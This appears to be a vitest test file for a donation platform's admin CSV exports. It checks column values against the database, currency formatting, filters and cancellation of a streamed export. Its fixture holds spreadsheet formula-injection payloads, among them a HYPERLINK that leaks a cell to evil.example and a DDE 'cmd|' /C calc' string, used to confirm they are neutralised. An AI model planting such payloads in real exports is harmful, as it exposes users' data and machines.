// The CSV exports, parsed back with a real CSV parser and compared with the database.
import http from 'node:http';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatMinor } from '../../../src/money/currency.ts';
import { buildApp, listen } from '../../helpers/app.ts';
import { createTestDatabase, type TestDatabase } from '../../helpers/database.ts';
import { bearer, campaign, mintKey, payment, pledge } from './admin-fixtures.ts';

let db: TestDatabase;
let app: ReturnType<typeof buildApp>;
let auth: Record<string, string>;

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  email: '+cmd@example.org',
  message: '-2+3+cmd|\' /C calc\'!A0',
  dedication: '@SUM(1+1)*cmd',
};

beforeAll(async () => {
  db = await createTestDatabase();
  app = buildApp(db);
  auth = bearer((await mintKey(db)).key);

  const winter = await campaign(db, 'winter');
  const yen = await campaign(db, 'yen', 'jpy');
  const dinar = await campaign(db, 'dinar', 'bhd');
  await db.prisma.payout.create({ data: { id: 'po_nov', amount: 7_387, currency: 'usd', status: 'paid', arrivalDate: new Date('2026-11-20T00:00:00Z') } });
  await db.prisma.payout.create({ data: { id: 'po_dec', amount: 10_000, currency: 'usd', status: 'in_transit', arrivalDate: new Date('2026-12-10T00:00:00Z') } });

  const p1 = await pledge(db, winter, { amount: 2550, createdAt: new Date('2026-11-02T10:00:00Z'), ...HOSTILE });
  await payment(db, { ...p1, amount: 2550 }, {
    paidAt: new Date('2026-11-02T10:05:00Z'), fee: 104, amountRefunded: 550, payoutId: 'po_nov', payoutArrivalDate: new Date('2026-11-20T00:00:00Z'),
  });
  const p2 = await pledge(db, winter, { amount: 5000, createdAt: new Date('2026-11-15T10:00:00Z'), frequency: 'monthly', name: '\tTabbed', email: 'monthly@example.org' });
  await payment(db, { ...p2, amount: 5000 }, {
    paidAt: new Date('2026-11-15T10:01:00Z'), fee: 175, invoiceId: 'in_1', disputeStatus: 'open', disputedAmount: 5000,
    payoutId: 'po_nov', payoutArrivalDate: new Date('2026-11-20T00:00:00Z'),
  });
  await payment(db, { ...p2, amount: 5000 }, {
    paidAt: new Date('2026-12-15T10:01:00Z'), fee: null, invoiceId: 'in_2', payoutId: 'po_dec', payoutArrivalDate: new Date('2026-12-10T00:00:00Z'),
  });
  const p3 = await pledge(db, yen, { amount: 5000, createdAt: new Date('2026-12-01T00:00:00Z'), name: '\rCarriage', anonymous: true });
  await payment(db, { ...p3, amount: 5000 }, { paidAt: new Date('2026-12-01T00:10:00Z'), fee: 175 });
  const p4 = await pledge(db, dinar, { amount: 5120, createdAt: new Date('2026-12-02T00:00:00Z'), status: 'pending' });
  await payment(db, { ...p4, amount: 5120 }, { status: 'pending', paidAt: null, fee: null, chargeId: null, balanceTransactionId: null });
  await pledge(db, winter, { amount: 1000, createdAt: new Date('2026-12-03T00:00:00Z'), status: 'expired', checkoutSessionId: null, name: null });
});
afterAll(async () => {
  await db.drop();
});

async function csv(path: string): Promise<Array<Record<string, string>>> {
  const res = await request(app).get(path).set(auth).buffer(true).parse((r, cb) => {
    let text = '';
    r.setEncoding('utf8');
    r.on('data', (c: string) => (text += c));
    r.on('end', () => cb(null, text));
  });
  expect(res.status, String(res.body)).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[a-z]+-\d{4}-\d{2}-\d{2}\.csv"$/);
  return parse(res.body as string, { columns: true, skip_empty_lines: true });
}

const dbPayments = () =>
  db.pool.query(`
    SELECT p.*, pl.name, pl.email, pl.anonymous, pl.frequency, pl.checkout_session_id, c.slug
    FROM payments p JOIN pledges pl ON pl.id = p.pledge_id JOIN campaigns c ON c.id = p.campaign_id`).then((r) => r.rows);

const unformula = (s: string) => (/^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);

describe('payments.csv', () => {
  it('has one row per payment, every column matching the database', async () => {
    const rows = await csv('/api/admin/exports/payments.csv');
    const payments = await dbPayments();
    expect(rows).toHaveLength(payments.length);
    expect(Object.keys(rows[0]!)).toEqual([
      'payment_id', 'pledge_id', 'campaign', 'paid_at', 'donor_name', 'email', 'anonymous', 'frequency', 'currency',
      'gross', 'fee', 'net', 'amount_refunded', 'dispute_status', 'checkout_session_id', 'payment_intent_id', 'charge_id',
      'invoice_id', 'balance_transaction_id', 'payout_id', 'payout_arrival_date', 'status', 'flag',
    ]);
    for (const row of rows) {
      const p = payments.find((x) => x.id === row.payment_id)!;
      const money = (v: number | null) => (v === null ? '' : formatMinor(v, p.currency));
      expect({ ...row, donor_name: unformula(row.donor_name!), email: unformula(row.email!) }).toEqual({
        payment_id: p.id,
        pledge_id: p.pledge_id,
        campaign: p.slug,
        paid_at: p.paid_at ? p.paid_at.toISOString() : '',
        donor_name: p.name ?? '',
        email: p.email,
        anonymous: String(p.anonymous),
        frequency: p.frequency,
        currency: p.currency,
        gross: money(p.amount),
        fee: money(p.fee),
        net: money(p.net),
        amount_refunded: money(p.amount_refunded),
        dispute_status: p.dispute_status,
        checkout_session_id: p.checkout_session_id ?? '',
        payment_intent_id: p.stripe_payment_intent_id ?? '',
        charge_id: p.stripe_charge_id ?? '',
        invoice_id: p.stripe_invoice_id ?? '',
        balance_transaction_id: p.stripe_balance_transaction_id ?? '',
        payout_id: p.stripe_payout_id ?? '',
        payout_arrival_date: p.payout_arrival_date ? p.payout_arrival_date.toISOString().slice(0, 10) : '',
        status: p.status,
        flag: p.flag ?? '',
      });
    }
  });

  it("writes amounts as decimal strings in each currency's precision", async () => {
    const rows = await csv('/api/admin/exports/payments.csv');
    const byCampaign = (slug: string) => rows.filter((r) => r.campaign === slug);
    expect(byCampaign('winter')[0]).toMatchObject({ gross: '25.50', fee: '1.04', net: '24.46', amount_refunded: '5.50' });
    expect(byCampaign('yen')[0]).toMatchObject({ currency: 'jpy', gross: '5000', fee: '175', net: '4825' });
    expect(byCampaign('dinar')[0]).toMatchObject({ currency: 'bhd', gross: '5.120', fee: '', net: '', paid_at: '', status: 'pending' });
  });

  it('neutralises spreadsheet formulas in text cells', async () => {
    const rows = await csv('/api/admin/exports/payments.csv');
    const hostile = rows.find((r) => r.gross === '25.50')!;
    expect(hostile.donor_name).toBe(`'${HOSTILE.name}`);
    expect(hostile.email).toBe(`'${HOSTILE.email}`);
    expect(rows.find((r) => r.invoice_id === 'in_1')!.donor_name).toBe("'\tTabbed");
    expect(rows.find((r) => r.currency === 'jpy')!.donor_name).toBe("'\rCarriage");
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('filters by campaign, status, and [from, to) on paid_at', async () => {
    const ids = async (q: string) => (await csv(`/api/admin/exports/payments.csv${q}`)).map((r) => r.invoice_id || r.currency);
    expect((await csv('/api/admin/exports/payments.csv?campaign=winter')).every((r) => r.campaign === 'winter')).toBe(true);
    expect(await ids('?campaign=winter')).toHaveLength(3);
    expect(await ids('?status=pending')).toEqual(['bhd']);
    expect(await ids('?from=2026-11-01&to=2026-12-01')).toEqual(['usd', 'in_1']);
    expect(await ids('?from=2026-12-01')).toEqual(['jpy', 'in_2']);
    expect(await ids('?to=2026-11-15T10:01:00Z')).toEqual(['usd']);
    expect(await ids('?campaign=winter&status=succeeded&from=2026-12-01')).toEqual(['in_2']);
    expect(await ids('?campaign=nobody')).toEqual([]);
  });

  it('an empty result is still a CSV with its header', async () => {
    const res = await request(app).get('/api/admin/exports/payments.csv?campaign=nobody').set(auth).expect(200);
    expect(res.text.trim().split('\n')).toHaveLength(1);
    expect(res.text).toMatch(/^payment_id,pledge_id,/);
  });

  it('400 naming the field for bad filters', async () => {
    const field = async (q: string) => (await request(app).get(`/api/admin/exports/payments.csv${q}`).set(auth).expect(400)).body.error.details[0].field;
    expect(await field('?status=completed')).toBe('status');
    expect(await field('?from=12/01/2026')).toBe('from');
    expect(await field('?from=2026-12-02&to=2026-12-01')).toBe('to');
    expect(await field('?limit=5')).toBe('limit');
  });
});

describe('pledges.csv', () => {
  it('has one row per pledge, any status, matching the database', async () => {
    const rows = await csv('/api/admin/exports/pledges.csv');
    const { rows: pledges } = await db.pool.query('SELECT pl.*, c.slug FROM pledges pl JOIN campaigns c ON c.id = pl.campaign_id');
    expect(rows).toHaveLength(pledges.length);
    expect(new Set(rows.map((r) => r.status))).toEqual(new Set(['completed', 'pending', 'expired']));
    for (const row of rows) {
      const p = pledges.find((x) => x.id === row.pledge_id)!;
      expect(row).toMatchObject({
        campaign: p.slug, created_at: p.created_at.toISOString(), status: p.status, frequency: p.frequency, currency: p.currency,
        amount: formatMinor(p.amount, p.currency), covered_fee: formatMinor(p.covered_fee, p.currency), email: expect.stringContaining(p.email),
        checkout_session_id: p.checkout_session_id ?? '', anonymous: String(p.anonymous),
      });
      expect(unformula(row.donor_name!)).toBe(p.name ?? '');
      expect(unformula(row.message!)).toBe(p.message ?? '');
      expect(unformula(row.dedication!)).toBe(p.dedication ?? '');
    }
    const hostile = rows.find((r) => r.amount === '25.50')!;
    expect(hostile).toMatchObject({ donor_name: `'${HOSTILE.name}`, message: `'${HOSTILE.message}`, dedication: `'${HOSTILE.dedication}` });
  });

  it('filters by campaign, status, and [from, to) on created_at', async () => {
    const amounts = async (q: string) => (await csv(`/api/admin/exports/pledges.csv${q}`)).map((r) => `${r.campaign}:${r.amount}`);
    expect(await amounts('?status=expired')).toEqual(['winter:10.00']);
    expect(await amounts('?campaign=winter')).toEqual(['winter:25.50', 'winter:50.00', 'winter:10.00']);
    expect(await amounts('?from=2026-12-01&to=2026-12-03')).toEqual(['yen:5000', 'dinar:5.120']);
    expect(await amounts('?campaign=winter&status=completed&to=2026-11-10')).toEqual(['winter:25.50']);
  });
});

describe('payouts.csv', () => {
  it("puts the sum of each payout's payments beside Stripe's amount, with the difference", async () => {
    const rows = await csv('/api/admin/exports/payouts.csv');
    expect(rows).toEqual([
      {
        payout_id: 'po_nov', status: 'paid', arrival_date: '2026-11-20', currency: 'usd', payout_amount: '73.87', payments: '2',
        gross: '75.50', fee: '2.79', net: '72.71', refunded: '5.50', payments_fee_unknown: '0', difference: '1.16', carried: '0.00', failure_code: '',
      },
      {
        payout_id: 'po_dec', status: 'in_transit', arrival_date: '2026-12-10', currency: 'usd', payout_amount: '100.00', payments: '1',
        gross: '50.00', fee: '0.00', net: '0.00', refunded: '0.00', payments_fee_unknown: '1', difference: '', carried: '0.00', failure_code: '',
      },
    ]);
    // The payouts' sums are the payments export's, row for row.
    const payments = await csv('/api/admin/exports/payments.csv');
    const nov = payments.filter((p) => p.payout_id === 'po_nov');
    const cents = (s: string) => Math.round(Number(s) * 100);
    expect(nov.reduce((sum, p) => sum + cents(p.net!), 0)).toBe(cents(rows[0]!.net!));
    expect(nov.reduce((sum, p) => sum + cents(p.gross!), 0)).toBe(cents(rows[0]!.gross!));
  });

  it('filters by status, arrival date and campaign', async () => {
    const ids = async (q: string) => (await csv(`/api/admin/exports/payouts.csv${q}`)).map((r) => r.payout_id);
    expect(await ids('?status=paid')).toEqual(['po_nov']);
    expect(await ids('?from=2026-12-01&to=2027-01-01')).toEqual(['po_dec']);
    expect(await ids('?campaign=winter')).toEqual(['po_nov', 'po_dec']);
    expect(await ids('?campaign=yen')).toEqual([]);
  });
});

describe('streaming', () => {
  it('stops the query and returns the connection when the client goes away mid-export', async () => {
    const [winter] = await db.prisma.campaign.findMany({ where: { slug: 'winter' } });
    const bulk = await pledge(db, winter!, { amount: 5000, name: 'Bulk' });
    // Many rows, quickly: the totals trigger is not what this test is about.
    await db.pool.query('ALTER TABLE payments DISABLE TRIGGER USER');
    await db.pool.query(`
      INSERT INTO payments (pledge_id, campaign_id, status, currency, amount, fee, net, stripe_payment_intent_id, paid_at)
      SELECT $1, $2, 'succeeded', 'usd', 5000, 175, 4825, 'pi_bulk_' || i, '2026-10-01'::timestamptz + i * interval '1 second'
      FROM generate_series(1, 60000) i`, [bulk.id, winter!.id]);
    await db.pool.query('ALTER TABLE payments ENABLE TRIGGER USER');

    const server = await listen(app);
    try {
      const received = await new Promise<number>((resolve, reject) => {
        const req = http.get(`${server.url}/api/admin/exports/payments.csv`, { headers: auth }, (res) => {
          let bytes = 0;
          res.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            // Read a little, then hang up like a closed browser tab.
            if (bytes > 64 * 1024) {
              req.destroy();
              resolve(bytes);
            }
          });
          res.on('end', () => reject(new Error('the whole export arrived before the test hung up')));
        });
        req.on('error', () => {});
      });
      expect(received).toBeGreaterThan(64 * 1024);

      // The export's query is gone from the server and its client is back in (or out of) the pool.
      await expect.poll(async () => {
        const { rows } = await db.pool.query(
          "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE '/* admin-export:payments */%' AND state <> 'idle' AND pid <> pg_backend_pid()",
        );
        return rows[0].n;
      }, { timeout: 5000 }).toBe(0);
      await expect.poll(() => db.admin.pool.totalCount - db.admin.pool.idleCount, { timeout: 5000 }).toBe(0);
      // And the pool still works.
      await request(app).get('/api/admin/exports/payouts.csv').set(auth).expect(200);
    } finally {
      await server.close();
      await db.pool.query('ALTER TABLE payments DISABLE TRIGGER USER');
      await db.pool.query("DELETE FROM payments WHERE stripe_payment_intent_id LIKE 'pi_bulk_%'");
      await db.pool.query('ALTER TABLE payments ENABLE TRIGGER USER');
    }
  }, 60_000);
});
